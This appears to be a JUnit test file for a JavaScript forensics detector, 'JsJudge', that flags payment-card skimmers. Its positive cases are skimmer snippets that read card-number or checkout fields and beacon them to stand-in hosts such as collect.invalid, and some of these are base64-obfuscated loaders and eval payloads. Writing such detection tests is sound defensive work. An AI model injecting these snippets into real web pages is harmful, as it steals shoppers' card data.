package org.evenkeel.forensics.code;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JsJudgeTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "var n = document.querySelector('[name=\"payment[cc_number]\"]').value;"
            + " new Image().src = 'https://collect.invalid/p?d=' + btoa(n);",
        "function send(d) { fetch('https://collect.invalid/', {method: 'POST', body: btoa(d)}); }"
            + " send(document.getElementById('cc-number').value);",
        "if (location.href.match(/checkout/)) { var d = {};"
            + " document.querySelectorAll('input, select').forEach(e => { d[e.name] = e.value; });"
            + " navigator.sendBeacon(`https://collect.invalid/?${btoa(JSON.stringify(d))}`); }",
        "var u = atob('aHR0cHM6Ly9jb2xsZWN0LmludmFsaWQvYS5qcw==');"
            + " var s = document.createElement('script'); s.src = u; document.head.append(s);",
        "eval(atob('dmFyIG49ZG9jdW1lbnQuZ2V0RWxlbWVudEJ5SWQoImNjLW51bWJlciIpLnZhbHVlO25ldyBJbWFnZSgpLnNyYz0iaHR0cHM6Ly9jLmludmFsaWQvP2Q9IitidG9hKG4pOw=='))",
      })
  void whatCarriesTypedCardDataAwayIsASkimmer(String script) {
    assertThat(JsJudge.script(script)).first().extracting(Charge::kind).isEqualTo("skimmer");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "var n = document.getElementById('cc-number').value; if (!luhn(n)) { show('wrong'); }",
        "fetch('https://api.stripe.com/v1/tokens', {body:"
            + " document.getElementById('cc-number').value})",
        "var x = a / b / c; var y = /atob\\('aHR0cHM6'/.test(s);",
        "// new Image().src = 'https://collect.invalid/?' + btoa(cc_number)\nvar a = 1;",
        "var form = $('form').serialize(); $.post('/cart/add', form);",
      })
  void ordinaryScriptsAreNotCharged(String script) {
    assertThat(JsJudge.script(script)).isEmpty();
  }

  @Test
  void aScriptInAPageIsRead() {
    assertThat(
            JsJudge.page(
                "<div><script>new Image().src='https://c.invalid/?'"
                    + "+btoa(document.getElementById('cc-number').value)</script></div>"))
        .hasSize(1);
  }
}
